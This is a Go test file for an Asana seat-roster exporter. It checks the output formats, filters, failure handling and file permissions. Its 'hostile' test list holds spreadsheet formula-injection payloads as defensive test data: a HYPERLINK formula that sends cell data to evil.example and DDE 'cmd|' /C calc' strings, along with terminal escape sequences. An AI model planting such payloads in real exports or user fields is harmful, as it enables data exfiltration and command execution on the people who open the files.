package exporter_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/asana-exporter/asana_exporter/asana"
	"github.com/asana-exporter/asana_exporter/asana/asanatest"
	"github.com/asana-exporter/asana_exporter/internal/exporter"
	"github.com/asana-exporter/asana_exporter/internal/roster"
)

var rosterHeader = "workspace_gid,workspace_name,membership_gid,user_gid,user_name,user_email,state,is_admin,domain,created_at," +
	"last_login_at,licence_paused,idle_days,activity_source,monthly_price"

// plain is a workspace that is not an organisation: no email domains.
var plain = asanatest.WorkspaceSpec{Name: "Initech Partners", Licensed: 14, Admins: 1, Guests: 22, Inactive: 3}

// seats runs the seats command and returns its standard output and error.
func (p *inProcess) seats(t *testing.T, opts exporter.SeatsOptions) (string, string, error) {
	t.Helper()
	if opts.Format == "" {
		opts.Format = roster.CSV
	}
	var out, errOut bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	err := p.exp.Seats(ctx, opts, &out, &errOut)
	return out.String(), errOut.String(), err
}

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	recs := readRecords(t, s, len(roster.Columns))
	if len(recs) == 0 || strings.Join(recs[0], ",") != rosterHeader {
		t.Fatalf("header %q, want %q", recs[0], rosterHeader)
	}
	return recs[1:]
}

// readRecords reads CSV of n columns, the header included.
func readRecords(t *testing.T, s string, n int) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(s))
	r.FieldsPerRecord = n
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, s)
	}
	return recs
}

// TestRosterNamesEverySeatAsTheMetricsCountIt: every column of every row
// against the simulated organisation, and the rows by state equal to what
// /metrics publishes for the same organisation.
func TestRosterNamesEverySeatAsTheMetricsCountIt(t *testing.T) {
	synctest.Test(t, rosterNamesEverySeatAsTheMetricsCountIt)
}

func rosterNamesEverySeatAsTheMetricsCountIt(t *testing.T) {
	p := newInProcess(t, setup{background: true, deadline: time.Minute}, asanatest.Acme, asanatest.Globex, plain)
	out, errOut, err := p.seats(t, exporter.SeatsOptions{})
	if err != nil {
		t.Fatalf("seats: %v, stderr %q", err, errOut)
	}
	rows := readCSV(t, out)
	// Standard error counts each workspace's rows, and says once why the
	// activity and price columns are empty.
	wantErr := fmt.Sprintf("asana_exporter: workspace %s (Acme Corp): 182 rows\n"+
		"asana_exporter: workspace %s (Globex): 600 rows\n"+
		"asana_exporter: workspace %s (Initech Partners): 39 rows\n"+
		"asana_exporter: idle_days and activity_source are empty for workspace %[1]s, %[2]s, %[3]s: no audit log (audit_log.enabled in the config: "+
		"Enterprise+ with a service account) and no --console-export=FILE (the Admin Console's members export, on every plan)\n"+
		"asana_exporter: monthly_price is empty for workspace %[1]s, %[2]s, %[3]s: set seat_price for the workspace in the config file\n",
		p.gids[0], p.gids[1], p.gids[2])
	if errOut != wantErr {
		t.Errorf("stderr:\n%s\nwant:\n%s", errOut, wantErr)
	}

	truth := map[string]*asanatest.Membership{}
	domains := map[string][]string{}
	names := map[string]string{}
	p.srv.Mutate(func(o *asanatest.Org) {
		for _, w := range o.Workspaces {
			domains[w.GID], names[w.GID] = w.EmailDomains, w.Name
			for _, m := range w.Memberships {
				truth[m.GID] = m
			}
		}
	})
	if len(rows) != len(truth) {
		t.Fatalf("%d rows for %d memberships", len(rows), len(truth))
	}
	counted := map[string]*asana.SeatCounts{}
	for _, gid := range p.gids {
		counted[gid] = &asana.SeatCounts{}
	}
	for _, r := range rows {
		m := truth[r[2]]
		if m == nil {
			t.Fatalf("row for unknown membership %s", r[2])
		}
		wantState := (&asana.Membership{IsActive: m.IsActive, IsGuest: m.IsGuest, IsViewOnly: m.IsViewOnly}).State().String()
		wantDomain := "unknown"
		if len(domains[r[0]]) > 0 {
			wantDomain = "outside"
			if strings.HasSuffix(m.User.Email, "@"+domains[r[0]][0]) {
				wantDomain = "inside"
			}
		}
		want := []string{r[0], names[r[0]], m.GID, m.User.GID, m.User.Name, m.User.Email, wantState,
			map[bool]string{true: "true", false: "false"}[m.IsAdmin], wantDomain, m.CreatedAt.UTC().Format("2006-01-02T15:04:05.000Z"),
			"", "", "", "", ""} // no audit log, no console export, no price: unknown
		if strings.Join(r, ",") != strings.Join(want, ",") {
			t.Errorf("row %q, want %q", r, want)
		}
		c := counted[r[0]]
		c.Add(&asana.Membership{IsActive: m.IsActive, IsGuest: m.IsGuest, IsViewOnly: m.IsViewOnly, IsAdmin: m.IsAdmin})
		if st, _ := asana.ParseState(r[6]); r[8] == "outside" && st != asana.Inactive {
			c.Outside[st]++
		}
	}

	families, _ := p.cycle(t)
	for _, gid := range p.gids {
		got, _ := families.Seats(gid)
		c := counted[gid]
		if got.Licensed != c.Licensed || got.ViewOnly != c.ViewOnly || got.Guest != c.Guest || got.Inactive != c.Inactive || got.Admins != c.Admins {
			t.Errorf("workspace %s: the roster counts %+v, /metrics %+v", gid, *c, got)
		}
		for _, st := range []asana.State{asana.Licensed, asana.ViewOnly, asana.Guest} {
			v, ok := families.Sample("asana_workspace_members_outside_email_domains", "workspace_gid="+gid, "state="+st.String())
			if ok != (len(domains[gid]) > 0) || int(v) != c.Outside[st] {
				t.Errorf("workspace %s, %s outside the domains: roster %d, /metrics %v (published %v)", gid, st, c.Outside[st], v, ok)
			}
		}
	}
	if counted[p.gids[0]].Outside[asana.Licensed] != asanatest.Acme.LicensedOutside {
		t.Errorf("Acme has %d licensed members outside its domain in the roster, want %d", counted[p.gids[0]].Outside[asana.Licensed], asanatest.Acme.LicensedOutside)
	}
}

// TestRosterFilters: --state and --workspace keep only their rows, and
// the seed's "give me the 27" is one command.
func TestRosterFilters(t *testing.T) {
	p := newInProcess(t, setup{}, asanatest.Acme, asanatest.Globex)
	out, _, err := p.seats(t, exporter.SeatsOptions{States: []string{"licensed"}, Workspaces: []string{p.gids[0]}})
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, out)
	if len(rows) != asanatest.Acme.Licensed {
		t.Errorf("%d licensed rows in Acme, want %d", len(rows), asanatest.Acme.Licensed)
	}
	for _, r := range rows {
		if r[0] != p.gids[0] || r[6] != "licensed" {
			t.Errorf("row %q passed the filters", r)
		}
	}
	out, _, err = p.seats(t, exporter.SeatsOptions{States: []string{"guest", "view_only"}})
	if err != nil {
		t.Fatal(err)
	}
	want := asanatest.Acme.Guests + asanatest.Acme.ViewOnly + asanatest.Globex.Guests + asanatest.Globex.ViewOnly
	if n := len(readCSV(t, out)); n != want {
		t.Errorf("%d guest and view-only rows, want %d", n, want)
	}
	for _, bad := range []exporter.SeatsOptions{{States: []string{"admin"}}, {Workspaces: []string{"1299999999999999"}}} {
		if _, _, err := p.seats(t, bad); err == nil || !strings.Contains(err.Error(), "--") {
			t.Errorf("%+v: error %v, want one naming the flag", bad, err)
		}
	}
}

// hostile are names and emails a member can give themselves.
var hostile = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTabbed", "\rReturn",
	"'already quoted", "Doe, Jane", "She said \"hi\"", "two\nlines", "Åsa Øberg 日本語 👩‍💻", "\x1b[2J\x1b[31mred", "\u202eevil\u202c",
}

// TestRosterIsSafeInASpreadsheetAndATerminal: hostile names are neutralised
// in CSV (and come back whole once the apostrophe is dropped), exact in
// JSON, and escaped in the table.
func TestRosterIsSafeInASpreadsheetAndATerminal(t *testing.T) {
	p := newInProcess(t, setup{}, asanatest.WorkspaceSpec{Name: "=cmd|' /C calc'!A0", IsOrganization: true, Licensed: len(hostile)})
	p.srv.Mutate(func(o *asanatest.Org) {
		for i, m := range o.Workspaces[0].Memberships {
			m.User.Name, m.User.Email = hostile[i], hostile[len(hostile)-1-i]+"@example.com"
		}
	})
	out, _, err := p.seats(t, exporter.SeatsOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, out)
	if len(rows) != len(hostile) {
		t.Fatalf("%d rows, want %d", len(rows), len(hostile))
	}
	for i, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q reaches a spreadsheet as a formula", cell)
			}
		}
		if name := strings.TrimPrefix(r[4], "'"); name != hostile[i] {
			t.Errorf("name %q came back as %q", hostile[i], r[4])
		}
		if r[1] != "'=cmd|' /C calc'!A0" {
			t.Errorf("workspace name %q", r[1])
		}
	}

	out, _, err = p.seats(t, exporter.SeatsOptions{Format: roster.JSON})
	if err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(strings.NewReader(out))
	for i := 0; ; i++ {
		var row map[string]any
		if err := dec.Decode(&row); errors.Is(err, io.EOF) {
			if i != len(hostile) {
				t.Errorf("%d JSON rows, want %d", i, len(hostile))
			}
			break
		} else if err != nil {
			t.Fatal(err)
		}
		if row["user_name"] != hostile[i] || row["is_admin"] != false || len(row) != len(roster.Columns) || row["licence_paused"] != nil {
			t.Errorf("JSON row %v", row)
		}
	}

	out, _, err = p.seats(t, exporter.SeatsOptions{Format: roster.Table})
	if err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(out, "\x1b\r\t\u202e") || strings.Count(out, "\n") != len(hostile)+1 {
		t.Errorf("the table lets a control character or a line break through:\n%s", out)
	}
}

// TestRosterNeverWritesAPartialWorkspace: a listing that fails on its
// third page writes none of that workspace's rows, says why, fails the
// command and leaves an existing --output file as it was.
func TestRosterNeverWritesAPartialWorkspace(t *testing.T) {
	p := newInProcess(t, setup{client: func(o *asana.Options) { o.MaxAttempts = 1 }}, asanatest.Acme, asanatest.Globex)
	p.srv.Inject(asanatest.Fault{Route: asana.EndpointWorkspaceMemberships, Page: 3, Status: http.StatusInternalServerError})

	out, errOut, err := p.seats(t, exporter.SeatsOptions{})
	if err == nil {
		t.Fatal("a failed listing did not fail the command")
	}
	rows := readCSV(t, out)
	if len(rows) != asanatest.Acme.Seats().Total() {
		t.Errorf("%d rows, want Acme's %d and none of Globex's", len(rows), asanatest.Acme.Seats().Total())
	}
	for _, r := range rows {
		if r[0] == p.gids[1] {
			t.Fatalf("a row of the failed workspace was written: %q", r)
		}
	}
	if !strings.Contains(errOut, p.gids[1]) || !strings.Contains(errOut, "500") {
		t.Errorf("stderr does not say which workspace failed and why: %q", errOut)
	}

	existing := p.write(t, "roster.csv", "the previous roster\n")
	if err := os.Chmod(existing, 0o640); err != nil {
		t.Fatal(err)
	}
	if _, _, err := p.seats(t, exporter.SeatsOptions{Output: existing}); err == nil || !strings.Contains(err.Error(), "not written") {
		t.Errorf("error %v, want one that says the file was not written", err)
	}
	if got, _ := os.ReadFile(existing); string(got) != "the previous roster\n" {
		t.Errorf("the existing output was changed to %q", got)
	}
	if st, _ := os.Stat(existing); st.Mode().Perm() != 0o640 {
		t.Errorf("the existing output's mode changed to %v", st.Mode())
	}
	assertOnlyFiles(t, p.dir, "roster.csv", "token")
}

// TestRosterOutputFile: --output writes the same rows as standard output,
// with mode 0600 whatever the umask, replacing the old file whole.
func TestRosterOutputFile(t *testing.T) {
	p := newInProcess(t, setup{}, asanatest.Acme)
	stdout, _, err := p.seats(t, exporter.SeatsOptions{Format: roster.JSON})
	if err != nil {
		t.Fatal(err)
	}
	path := p.write(t, "roster.json", "old")
	os.Chmod(path, 0o644)
	if out, _, err := p.seats(t, exporter.SeatsOptions{Format: roster.JSON, Output: path}); err != nil || out != "" {
		t.Fatalf("seats --output: %v, stdout %q", err, out)
	}
	got, _ := os.ReadFile(path)
	if string(got) != stdout {
		t.Errorf("the file differs from standard output")
	}
	if st, _ := os.Stat(path); st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", st.Mode())
	}
	assertOnlyFiles(t, p.dir, "roster.json", "token")
}

// TestRosterSurvivesAnExpiredOffset: a listing that starts over keeps no
// row of its first attempt.
func TestRosterSurvivesAnExpiredOffset(t *testing.T) {
	p := newInProcess(t, setup{}, asanatest.Globex)
	p.srv.Inject(asanatest.Fault{Route: asana.EndpointWorkspaceMemberships, Page: 4, Times: 1, ExpireOffset: true})
	out, _, err := p.seats(t, exporter.SeatsOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, out)
	seen := map[string]bool{}
	for _, r := range rows {
		if seen[r[2]] {
			t.Fatalf("membership %s written twice", r[2])
		}
		seen[r[2]] = true
	}
	if len(rows) != asanatest.Globex.Seats().Total() {
		t.Errorf("%d rows, want %d", len(rows), asanatest.Globex.Seats().Total())
	}
}

// assertOnlyFiles fails t unless dir holds exactly names, in name order.
func assertOnlyFiles(t *testing.T, dir string, names ...string) {
	t.Helper()
	entries, _ := os.ReadDir(dir)
	var got []string
	for _, e := range entries {
		got = append(got, e.Name())
	}
	if strings.Join(got, ",") != strings.Join(names, ",") {
		t.Errorf("%s holds %v, want %v (a temporary file left behind?)", filepath.Base(dir), got, names)
	}
}
